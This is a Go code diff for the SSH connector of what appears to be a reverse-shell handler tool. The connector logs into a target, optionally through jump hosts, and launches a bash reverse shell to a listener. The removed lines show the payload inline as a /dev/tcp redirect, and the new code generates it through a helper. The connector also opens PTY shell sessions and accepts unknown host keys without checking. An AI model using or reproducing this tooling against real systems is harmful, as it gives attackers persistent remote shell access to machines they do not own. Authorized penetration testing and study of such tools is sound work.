@@ -1,16 +1,50 @@
 package internal
 
 import (
+	"errors"
 	"fmt"
+	"io"
+	"net"
 	"os"
-	"os/exec"
+	"path/filepath"
 	"strings"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/agent"
+	"golang.org/x/crypto/ssh/knownhosts"
+	"golang.org/x/term"
 )
 
+// SSH
+//
+// Connections use a native client (no OpenSSH binary needed). Authentication
+// tries, in order: the SSH agent (SSH_AUTH_SOCK), a key file (-i), and a
+// password (-pw, or prompted for when the server asks and none was given).
+// Jump hosts (-J) are chained through direct-tcpip channels like ssh -J.
+//
+// By default the SSH connection only fires a reverse shell payload back to the
+// listener and is closed. With --session the SSH shell itself (with a real PTY)
+// becomes the gummy session.
+//
+// Host keys are checked against ~/.ssh/known_hosts when the host is listed
+// there; unknown hosts are accepted.
+
+// sshDialTimeout bounds the TCP connect and handshake of each hop
+const sshDialTimeout = 10 * time.Second
+
+// SSHOptions configures authentication and routing of SSH connections
+type SSHOptions struct {
+	Password string   // Password (also used as key passphrase); prompted for if empty
+	KeyFile  string   // Private key file
+	Jump     []string // Jump hosts (user@host[:port]), in connection order
+}
+
 // SSHConnector handles SSH connections with automatic reverse shell
 type SSHConnector struct {
 	ListenerIP   string
 	ListenerPort int
+	Options      SSHOptions
 }
 
 // NewSSHConnector creates a new SSH connector
@@ -21,86 +55,401 @@ func NewSSHConnector(ip string, port int) *SSHConnector {
 	}
 }
 
-// Connect establishes SSH connection and executes reverse shell payload
-// Format: ssh user@host or ssh user@host:port
-func (s *SSHConnector) Connect(target string) error {
-	// Parse target: user@host or user@host:port
-	parts := strings.Split(target, "@")
-	if len(parts) != 2 {
-		return fmt.Errorf("invalid SSH target format. Use: user@host or user@host:port")
+// parseSSHTarget splits user@host[:port] into user and host:port (port 22 by default)
+// defaultUser is used when the target has no user part (empty = required)
+func parseSSHTarget(target, defaultUser string) (string, string, error) {
+	user, host := defaultUser, target
+	if at := strings.LastIndex(target, "@"); at >= 0 {
+		user, host = target[:at], target[at+1:]
+	}
+	if user == "" || host == "" {
+		return "", "", fmt.Errorf("invalid SSH target format. Use: user@host or user@host:port")
+	}
+
+	if _, _, err := net.SplitHostPort(host); err != nil {
+		host = net.JoinHostPort(strings.Trim(host, "[]"), "22")
+	}
+	return user, host, nil
+}
+
+// promptPassword reads a secret from the terminal without echo
+func promptPassword(prompt string) (string, error) {
+	fmt.Print(prompt)
+	secret, err := term.ReadPassword(int(os.Stdin.Fd()))
+	fmt.Println()
+	if err != nil {
+		return "", fmt.Errorf("failed to read password: %w", err)
+	}
+	return string(secret), nil
+}
+
+// expandHome resolves a leading ~/ in a path
+func expandHome(path string) string {
+	if rest, ok := strings.CutPrefix(path, "~/"); ok {
+		if home, err := os.UserHomeDir(); err == nil {
+			return filepath.Join(home, rest)
+		}
 	}
+	return path
+}
 
-	user := parts[0]
-	hostAndPort := parts[1]
+// loadKey reads a private key file, asking for the passphrase if it's encrypted
+func (s *SSHConnector) loadKey() (ssh.Signer, error) {
+	path := expandHome(s.Options.KeyFile)
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, fmt.Errorf("failed to read key: %w", err)
+	}
 
-	// Check if port is specified
-	sshTarget := fmt.Sprintf("%s@%s", user, hostAndPort)
+	signer, err := ssh.ParsePrivateKey(data)
+	var missing *ssh.PassphraseMissingError
+	if !errors.As(err, &missing) {
+		if err != nil {
+			return nil, fmt.Errorf("invalid key %s: %w", path, err)
+		}
+		return signer, nil
+	}
 
-	// Generate the reverse shell payload
-	payload := s.generatePayload()
+	passphrase := s.Options.Password
+	if passphrase == "" {
+		if passphrase, err = promptPassword(fmt.Sprintf("Enter passphrase for key '%s': ", path)); err != nil {
+			return nil, err
+		}
+	}
+	signer, err = ssh.ParsePrivateKeyWithPassphrase(data, []byte(passphrase))
+	if err != nil {
+		return nil, fmt.Errorf("failed to decrypt key %s: %w", path, err)
+	}
+	return signer, nil
+}
 
-	// Build SSH command
-	// ssh -t forces pseudo-terminal allocation (needed for interactive shells)
-	// We execute the payload directly
-	sshCmd := exec.Command("ssh", "-t", sshTarget, payload)
+// authMethods builds the authentication methods for one hop
+// The returned closer releases the agent connection once the handshake is done
+func (s *SSHConnector) authMethods(user, addr string) ([]ssh.AuthMethod, func(), error) {
+	var methods []ssh.AuthMethod
+	closer := func() {}
 
-	// Connect stdin/stdout/stderr to allow interaction
-	sshCmd.Stdin = os.Stdin
-	sshCmd.Stdout = os.Stdout
-	sshCmd.Stderr = os.Stderr
+	if sock := os.Getenv("SSH_AUTH_SOCK"); sock != "" {
+		if conn, err := net.Dial("unix", sock); err == nil {
+			methods = append(methods, ssh.PublicKeysCallback(agent.NewClient(conn).Signers))
+			closer = func() { conn.Close() }
+		}
+	}
 
-	// Execute SSH command
-	fmt.Printf("Connecting to %s...\n", sshTarget)
-	fmt.Printf("Executing reverse shell payload to %s:%d\n", s.ListenerIP, s.ListenerPort)
+	if s.Options.KeyFile != "" {
+		signer, err := s.loadKey()
+		if err != nil {
+			closer()
+			return nil, nil, err
+		}
+		methods = append(methods, ssh.PublicKeys(signer))
+	}
 
-	err := sshCmd.Run()
+	// Asked for at most once per hop, and only if the server wants a password
+	password := s.Options.Password
+	getPassword := func() (string, error) {
+		if password != "" {
+			return password, nil
+		}
+		var err error
+		password, err = promptPassword(fmt.Sprintf("%s@%s's password: ", user, addr))
+		return password, err
+	}
+	methods = append(methods,
+		ssh.PasswordCallback(getPassword),
+		ssh.KeyboardInteractive(func(name, instruction string, questions []string, echos []bool) ([]string, error) {
+			answers := make([]string, len(questions))
+			for i := range questions {
+				answer, err := getPassword()
+				if err != nil {
+					return nil, err
+				}
+				answers[i] = answer
+			}
+			return answers, nil
+		}),
+	)
+
+	return methods, closer, nil
+}
+
+// hostKeyCallback checks host keys against ~/.ssh/known_hosts
+// Hosts that aren't listed (or no known_hosts at all) are accepted; mismatches are refused
+func hostKeyCallback() ssh.HostKeyCallback {
+	known, err := knownhosts.New(expandHome("~/.ssh/known_hosts"))
 	if err != nil {
-		return fmt.Errorf("SSH connection failed: %w", err)
+		return ssh.InsecureIgnoreHostKey()
+	}
+
+	return func(hostname string, remote net.Addr, key ssh.PublicKey) error {
+		err := known(hostname, remote, key)
+		var keyErr *knownhosts.KeyError
+		if errors.As(err, &keyErr) && len(keyErr.Want) == 0 {
+			return nil
+		}
+		if err != nil {
+			return fmt.Errorf("host key verification failed for %s (%s): %w", hostname, ssh.FingerprintSHA256(key), err)
+		}
+		return nil
 	}
+}
 
+// sshClients is a chain of connected hops; the last one is the target
+type sshClients []*ssh.Client
+
+// target returns the client connected to the final host
+func (c sshClients) target() *ssh.Client {
+	return c[len(c)-1]
+}
+
+// Close closes the hops from the target back to the first jump host
+func (c sshClients) Close() error {
+	for i := len(c) - 1; i >= 0; i-- {
+		c[i].Close()
+	}
+	return nil
+}
+
+// Dial connects to the target through the jump hosts
+func (s *SSHConnector) Dial(target string) (sshClients, error) {
+	user, addr, err := parseSSHTarget(target, "")
+	if err != nil {
+		return nil, err
+	}
+
+	// Jump hosts without a user log in as the target user
+	type hop struct{ user, addr string }
+	var hops []hop
+	for _, jump := range s.Options.Jump {
+		jumpUser, jumpAddr, err := parseSSHTarget(jump, user)
+		if err != nil {
+			return nil, fmt.Errorf("invalid jump host %q: %w", jump, err)
+		}
+		hops = append(hops, hop{jumpUser, jumpAddr})
+	}
+	hops = append(hops, hop{user, addr})
+
+	var clients sshClients
+	for _, h := range hops {
+		client, err := s.dialHop(clients, h.user, h.addr)
+		if err != nil {
+			clients.Close()
+			return nil, err
+		}
+		clients = append(clients, client)
+	}
+	return clients, nil
+}
+
+// dialHop opens the SSH connection to one hop, through the previous one if any
+func (s *SSHConnector) dialHop(previous sshClients, user, addr string) (*ssh.Client, error) {
+	methods, closeAgent, err := s.authMethods(user, addr)
+	if err != nil {
+		return nil, err
+	}
+	defer closeAgent()
+
+	config := &ssh.ClientConfig{
+		User:            user,
+		Auth:            methods,
+		HostKeyCallback: hostKeyCallback(),
+		Timeout:         sshDialTimeout,
+	}
+
+	var conn net.Conn
+	if len(previous) == 0 {
+		conn, err = net.DialTimeout("tcp", addr, sshDialTimeout)
+	} else {
+		conn, err = previous.target().Dial("tcp", addr)
+	}
+	if err != nil {
+		return nil, fmt.Errorf("failed to connect to %s: %w", addr, err)
+	}
+
+	// Timeout only covers the TCP dial, bound the handshake too
+	conn.SetDeadline(time.Now().Add(sshDialTimeout))
+	sshConn, chans, reqs, err := ssh.NewClientConn(conn, addr, config)
+	if err != nil {
+		conn.Close()
+		return nil, fmt.Errorf("SSH connection to %s failed: %w", addr, err)
+	}
+	conn.SetDeadline(time.Time{})
+
+	return ssh.NewClient(sshConn, chans, reqs), nil
+}
+
+// Connect logs into the target and fires the reverse shell payload back to the listener
+// Format: user@host or user@host:port
+func (s *SSHConnector) Connect(target string) error {
+	clients, err := s.Dial(target)
+	if err != nil {
+		return err
+	}
+	defer clients.Close()
+
+	session, err := clients.target().NewSession()
+	if err != nil {
+		return fmt.Errorf("failed to open SSH session: %w", err)
+	}
+	defer session.Close()
+
+	// The payload backgrounds itself, so this returns as soon as it's launched
+	if output, err := session.CombinedOutput(s.generatePayload()); err != nil {
+		if msg := strings.TrimSpace(string(output)); msg != "" {
+			return fmt.Errorf("payload failed: %s", msg)
+		}
+		return fmt.Errorf("payload failed: %w", err)
+	}
 	return nil
 }
 
 // generatePayload creates the bash reverse shell payload
 func (s *SSHConnector) generatePayload() string {
-	// Use bash reverse shell that connects back to the listener
-	// This runs in the background and exits immediately
-	payload := fmt.Sprintf(
-		"bash -c 'exec bash >& /dev/tcp/%s/%d 0>&1 &' && exit",
-		s.ListenerIP,
-		s.ListenerPort,
-	)
-	return payload
+	return NewReverseShellGenerator(s.ListenerIP, s.ListenerPort).GenerateBash()
 }
 
-// ConnectInteractive performs silent SSH connection
-func (s *SSHConnector) ConnectInteractive(target string) error {
-	// Parse target
-	parts := strings.Split(target, "@")
-	if len(parts) != 2 {
-		return fmt.Errorf("invalid SSH target format. Use: user@host or user@host:port")
+// OpenShell logs into the target and starts a shell with a PTY
+// The returned connection is the shell's stream, ready to be added as a session
+func (s *SSHConnector) OpenShell(target string) (*SSHConn, error) {
+	clients, err := s.Dial(target)
+	if err != nil {
+		return nil, err
 	}
 
-	user := parts[0]
-	hostAndPort := parts[1]
-	sshTarget := fmt.Sprintf("%s@%s", user, hostAndPort)
+	session, err := clients.target().NewSession()
+	if err != nil {
+		clients.Close()
+		return nil, fmt.Errorf("failed to open SSH session: %w", err)
+	}
+
+	_, addr, _ := parseSSHTarget(target, "")
+	conn, err := newSSHConn(clients, session, addr)
+	if err != nil {
+		session.Close()
+		clients.Close()
+		return nil, err
+	}
+	return conn, nil
+}
+
+// sshAddr is the host:port an SSH shell was opened to
+// (behind jump hosts the channel's own address is meaningless)
+type sshAddr string
+
+func (a sshAddr) Network() string { return "ssh" }
+func (a sshAddr) String() string  { return string(a) }
 
-	// Generate payload
-	payload := s.generatePayload()
+// SSHConn adapts an SSH shell session to net.Conn so it can be handled like any shell
+type SSHConn struct {
+	clients sshClients
+	session *ssh.Session
+	stdin   io.WriteCloser
+	stdout  *io.PipeReader // stdout and stderr, merged
+	addr    sshAddr
+	control bool // Control channel: the connections belong to the main shell
+}
 
-	// Build and execute SSH command silently
-	// -T: disable pseudo-terminal allocation (no banner)
-	// -o StrictHostKeyChecking=no: auto-accept host keys (optional, for convenience)
-	// -o LogLevel=ERROR: suppress SSH messages
-	sshCmd := exec.Command("ssh", "-T", "-o", "LogLevel=ERROR", sshTarget, payload)
-	sshCmd.Stdin = os.Stdin
-	sshCmd.Stdout = os.Stdout
-	sshCmd.Stderr = os.Stderr
+// newSSHConn requests a PTY and starts the login shell
+func newSSHConn(clients sshClients, session *ssh.Session, addr string) (*SSHConn, error) {
+	modes := ssh.TerminalModes{
+		ssh.ECHO:          1,
+		ssh.TTY_OP_ISPEED: 38400,
+		ssh.TTY_OP_OSPEED: 38400,
+	}
+	if err := session.RequestPty("xterm-256color", 24, 80, modes); err != nil {
+		return nil, fmt.Errorf("PTY request failed: %w", err)
+	}
 
-	err := sshCmd.Run()
+	conn, err := startSSHSession(session, session.Shell)
 	if err != nil {
-		return fmt.Errorf("SSH connection failed: %w", err)
+		return nil, fmt.Errorf("failed to start shell: %w", err)
 	}
 
-	return nil
+	conn.clients, conn.addr = clients, sshAddr(addr)
+	return conn, nil
+}
+
+// startSSHSession connects the session's input and merged output to a new SSHConn
+// and starts the remote side. The stream ends when the remote command exits
+func startSSHSession(session *ssh.Session, start func() error) (*SSHConn, error) {
+	stdin, err := session.StdinPipe()
+	if err != nil {
+		return nil, err
+	}
+	reader, writer := io.Pipe()
+	session.Stdout = writer
+	session.Stderr = writer
+
+	if err := start(); err != nil {
+		return nil, err
+	}
+
+	go func() {
+		session.Wait()
+		writer.Close()
+	}()
+
+	return &SSHConn{session: session, stdin: stdin, stdout: reader}, nil
+}
+
+// OpenControl runs command on a second channel of the same connection, without a PTY
+// The channel is the session's control channel: nothing has to call back to a listener
+func (c *SSHConn) OpenControl(command string) (net.Conn, error) {
+	session, err := c.clients.target().NewSession()
+	if err != nil {
+		return nil, fmt.Errorf("failed to open SSH channel: %w", err)
+	}
+
+	conn, err := startSSHSession(session, func() error { return session.Start(command) })
+	if err != nil {
+		session.Close()
+		return nil, fmt.Errorf("failed to start control shell: %w", err)
+	}
+
+	conn.clients, conn.addr, conn.control = c.clients, c.addr, true
+	return conn, nil
+}
+
+// Read reads shell output
+func (c *SSHConn) Read(b []byte) (int, error) {
+	return c.stdout.Read(b)
+}
+
+// Write sends input to the shell
+func (c *SSHConn) Write(b []byte) (int, error) {
+	return c.stdin.Write(b)
+}
+
+// Close ends the shell and the SSH connections
+func (c *SSHConn) Close() error {
+	c.session.Close()
+	c.stdout.Close()
+	if c.control {
+		return nil
+	}
+	return c.clients.Close()
+}
+
+// LocalAddr returns the local address of the target connection
+func (c *SSHConn) LocalAddr() net.Addr {
+	return c.clients.target().LocalAddr()
+}
+
+// RemoteAddr returns the address of the target
+func (c *SSHConn) RemoteAddr() net.Addr {
+	return c.addr
+}
+
+// SetDeadline is a no-op (SSH channels have no deadlines)
+func (c *SSHConn) SetDeadline(t time.Time) error { return nil }
+
+// SetReadDeadline is a no-op (the session mux handles read timeouts)
+func (c *SSHConn) SetReadDeadline(t time.Time) error { return nil }
+
+// SetWriteDeadline is a no-op
+func (c *SSHConn) SetWriteDeadline(t time.Time) error { return nil }
+
+// Resize sends the new terminal size to the remote PTY
+func (c *SSHConn) Resize(width, height int) error {
+	return c.session.WindowChange(height, width)
 }